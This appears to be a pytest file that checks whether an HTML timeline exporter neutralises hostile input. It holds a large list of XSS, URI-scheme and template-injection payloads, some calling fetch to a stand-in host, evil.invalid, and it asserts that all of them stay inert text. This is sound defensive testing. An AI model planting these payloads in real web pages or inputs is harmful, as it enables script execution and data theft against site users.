"""Whatever a text says, in any field: nothing runs, nothing is asked for, nothing becomes markup, nothing acts unseen."""

from __future__ import annotations

import re
from collections.abc import Callable
from datetime import date
from urllib.parse import quote

import pytest

from tests.exports.page.conftest import Seen, event
from timeline.exports.page import Detail, HtmlExporter
from timeline.exports.page.safe import visible
from timeline.model import Actor, ActorKind, CountryLink, Event, Participation, Place, Role, When

RUN = "window.ran=1,fetch(`https://evil.invalid/`),alert(1)"
OUT = "https://evil.invalid/x"
PAYLOADS = [
    *(
        f"{before}<script>{RUN}</script>"
        for before in ("", "</script>", "</SCRIPT >", "</style>", "</title>", "</textarea>", "-->", "]]>", "</noscript>",
                       "</template>", '">', "'>", "`>", "\\\">", "<!--<script>", "<svg>", "<math><mi>", "</dialog></body></html>")
    ),
    *(
        f"<{tag} {handler}='{RUN}'>"
        for tag, handler in (
            ("img src=x", "onerror"), ("body", "onload"), ("svg", "onload"), ("video src=x", "onerror"), ("audio src=x", "onerror"),
            ("details open", "ontoggle"), ("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("marquee", "onstart"),
            ("object data=x", "onerror"), ("style", "onload"), ("iframe", "onload"), ("a href=x", "onmouseover"), ("p", "onclick"),
            ("img/src=x", "onerror"), ("svg/onload", "x"), ("video><source", "onerror"), ("xss contenteditable tabindex=1 autofocus", "onfocus"),
        )
    ),
    *(
        f"{scheme}{RUN}"
        for scheme in ("javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "\x01javascript:",
                       "javascript&colon;", "&#106;avascript:", "vbscript:", "javascript://example.org/%0a", "view-source:javascript:")
    ),
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    f"blob:{OUT}", f"file:///etc/passwd?{OUT}", f"ftp://{OUT}", "about:blank", "chrome://settings", f"//{OUT}", f"\\\\{OUT}",
    "https://evil.invalid\\@example.org/", "https://user:pw@evil.invalid/", "https://[::1", 'https://evil.invalid/" onclick="alert(1)',
    "https://evil.invalid/' onmouseover='alert(1)", "https://evil.invalid/><img src=x onerror=alert(1)>",
    f"<img src={OUT}>", f"<link rel=stylesheet href={OUT}>", f"<link rel=prefetch href={OUT}>", f"<iframe src={OUT}></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>", f"<meta http-equiv=refresh content='0;url={OUT}'>", f"<base href={OUT}>",
    f"<form action={OUT}><input type=submit autofocus></form>", f"<object data={OUT}></object>", f"<embed src={OUT}>",
    f"<style>@import '{OUT}';body{{background:url({OUT})}}</style>", f"<div style='background:url({OUT})'>", f"<svg><use href='{OUT}'/></svg>",
    f"<svg><image href='{OUT}'/></svg>", f"<svg><animate attributeName=href values=javascript:{RUN}></svg>",
    f"<math><maction actiontype='statusline#{OUT}' xlink:href='javascript:{RUN}'>x</maction></math>", f"<audio src={OUT}>", f"<portal src={OUT}>",
    f"{{{{constructor.constructor('{RUN}')()}}}}", f"${{{RUN}}}", "{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}", "{{ 7*7 }}",
    f"';{RUN}//", f'";{RUN}//', f"\\';{RUN}//", f"`;{RUN}//", f"\u2028{RUN}\u2029", f"*/{RUN}/*", f"]}}}};{RUN}//", "\\u003cscript>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr\x00ipt>alert(1)</scr\x00ipt>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\ufeff<script>alert(1)</script>", "＜script＞alert(1)＜/script＞",
    "__proto__", "constructor", "toString", "hasOwnProperty", "\x1b]8;;https://evil.invalid/\x1b\\click\x1b]8;;\x1b\\", "\u202e<tpircs>\u202c",
    "\u2066left\u2069 \u200bzero\u200f", "\ud800half", "a" * 5_000, "<" * 500, "&" * 500,
]  # fmt: skip
# What the page is made of; anything else came out of a text.
OURS = set(
    "html head meta title style script body a header h1 h2 h3 h4 p section div label input button aside kbd main ul ol li "
    "footer dialog dl dt dd span small i b code details summary blockquote svg g path text rect circle".split()
)  # fmt: skip
ADDRESSES = {"http:", "https:", "#"}


def _hostile(number: int, payload: str) -> Event:
    actor = Actor(payload, ActorKind.PERSON, payload, payload)
    return event(
        number,
        "2021-02-01",
        title=payload,
        sentence=payload,
        when=When("2021-02-01", date(2021, 2, 1), date(2021, 2, 1), payload, payload),
        type=payload,
        kind=payload,
        actors=(Participation(actor, Role.SOURCE), Participation(actor, Role.TARGET)),
        place=Place(payload, payload, 10.0 + number / 10, 20.0 + number),
        countries=(CountryLink(payload, "actor", payload),),
        id=payload,
        urls=(payload, f"https://example.org/{number}/{payload}"),
    )


def _exporter(payload: str, ids: list[str]) -> HtmlExporter:
    detail = Detail(payload, payload, payload, date(2021, 2, 1))
    return HtmlExporter(payload, payload, {payload: payload}, {each: [detail] for each in ids})


@pytest.fixture(params=[True, False], ids=["scripts", "no-scripts"])
def scripts(request: pytest.FixtureRequest) -> bool:
    return bool(request.param)


def test_there_are_a_hundred_of_them() -> None:
    assert len(set(PAYLOADS)) >= 100


def test_all_at_once_in_every_field_stay_text(show: Callable[..., Seen], scripts: bool) -> None:
    told = [_hostile(n, payload) for n, payload in enumerate(PAYLOADS)]
    seen = show(told, exporter=_exporter(PAYLOADS[1], PAYLOADS), java_script_enabled=scripts)
    page = seen.page
    if not scripts:
        assert page.locator("#plain h2").all_text_contents() == [visible(p) for p in PAYLOADS]
        return
    page.evaluate("window.dispatchEvent(new Event('beforeprint'))")
    assert page.locator("#list .title").all_text_contents() == [visible(p) for p in PAYLOADS]
    page.evaluate("for (const title of document.querySelectorAll('#list .title')) title.click()")
    _unharmed(seen)
    page.evaluate(
        "for (const find of document.querySelectorAll('.find')) { find.value = 'a'; find.dispatchEvent(new Event('input')) }"
    )
    page.locator("#facets input[type=checkbox]").last.check()
    page.mouse.move(300, 300)
    page.wait_for_timeout(100)
    _unharmed(seen)


@pytest.mark.parametrize("tenth", range(10))
def test_each_alone_stays_text(show: Callable[..., Seen], tenth: int) -> None:
    for payload in PAYLOADS[tenth::10]:
        seen = show([_hostile(0, payload)], exporter=_exporter(payload, [payload]))
        assert seen.page.locator("h1").text_content() == visible(payload)
        seen.page.locator("#list .title").click()
        _unharmed(seen)
        seen.page.locator("#p-0 .value-button").first.click()
        assert seen.count == "1 event"
        _unharmed(seen)


@pytest.mark.parametrize(
    "key", ["text", "country", "actor", "kind", "family", "place", "event", "from", "to", "__proto__"]
)
def test_an_address_runs_nothing_either(show: Callable[..., Seen], key: str) -> None:
    for payload in PAYLOADS[::7]:
        seen = show([_hostile(0, PAYLOADS[0])], after=f"#{key}={quote(payload.encode('utf-8', 'replace').decode())}")
        _unharmed(seen)


def _unharmed(seen: Seen) -> None:
    """Nothing ran, and nothing in the document is other than what the page itself makes."""
    page = seen.page
    assert page.evaluate("window.ran") is None
    assert set(page.evaluate("[...document.querySelectorAll('*')].map((e) => e.localName)")) <= OURS
    attributes = page.evaluate("[...document.querySelectorAll('*')].flatMap((e) => e.getAttributeNames())")
    assert [name for name in attributes if name.startswith("on") or name in {"src", "srcdoc", "action", "data"}] == []
    assert (
        set(page.evaluate("[...document.links].map((a) => a.getAttribute('href')[0] === '#' ? '#' : a.protocol)"))
        <= ADDRESSES
    )
    assert set(page.evaluate("[...document.querySelectorAll('a[target]')].map((a) => a.rel)")) <= {
        "noopener noreferrer"
    }
    shown = page.evaluate("document.body.innerText + [...document.links].map((a) => a.href).join('')")
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ufeff]", shown)
